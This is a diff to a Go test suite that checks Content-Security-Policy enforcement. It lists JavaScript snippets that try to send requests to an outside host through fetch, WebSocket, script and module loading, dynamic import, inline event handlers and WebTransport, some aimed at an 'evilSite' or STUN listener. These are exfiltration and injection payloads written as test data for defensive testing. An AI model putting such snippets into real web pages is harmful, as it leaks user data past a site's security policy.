@@ -56,11 +56,14 @@ var escapes = []escape{
 	{name: "websocket", script: `new WebSocket(URL.replace("http", "ws"))`, refused: "connect-src"},
 	{name: "eventsource", script: `new EventSource(URL)`, refused: "connect-src"},
 	{name: "ping", script: `put(el("a", {href: "#x", ping: URL})).click()`, refused: "connect-src", absent: noPing},
+	{name: "webtransport", script: `new WebTransport(FAR.replace("stun:", "https://")).ready`, via: "stun"},
 	{name: "keepalive", script: `fetch(URL, {keepalive: true})`, refused: "connect-src"},
 
 	{name: "script", script: `put(el("script", {src: URL}))`, refused: "script-src-elem"},
 	{name: "module", script: `put(el("script", {src: URL, type: "module"}))`, refused: "script-src-elem"},
 	{name: "import", script: `import(URL)`, refused: "script-src-elem"},
+	{name: "import-json", script: `import(URL, {with: {type: "json"}})`},
+	{name: "import-css", script: `import(URL, {with: {type: "css"}})`, absent: onlyChromium},
 	{name: "inline-script", script: `put(el("script", {text: "fetch('" + URL + "')"}))`, refused: "script-src-elem"},
 	{name: "inline-handler", script: `(() => { const i = el("img", {}); i.setAttribute("onerror", "fetch('" + URL + "')"); i.src = "data:,x"; put(i) })()`, refused: "script-src-attr"},
 	{name: "javascript-address", script: `put(el("a", {href: "javascript:void fetch('" + URL + "')"})).click()`, refused: "script-src-elem"},
@@ -167,9 +170,9 @@ func (s *scene) far(t *testing.T, e escape, side string) string {
 	name := e.name + " " + side
 	switch e.via {
 	case "stun":
-		return fmt.Sprintf("stun:127.0.0.1:%d", s.listenUDP(t, name))
+		return fmt.Sprintf("stun:127.0.0.1:%d", s.arrived.listenUDP(t, name))
 	case "tcp":
-		return fmt.Sprintf("http://%s:%d", evilSite, s.listenTCP(t, name))
+		return fmt.Sprintf("http://%s:%d", evilSite, s.arrived.listenTCP(t, name))
 	case "dns":
 		return "http://" + s.askedFor(name) + "/"
 	}
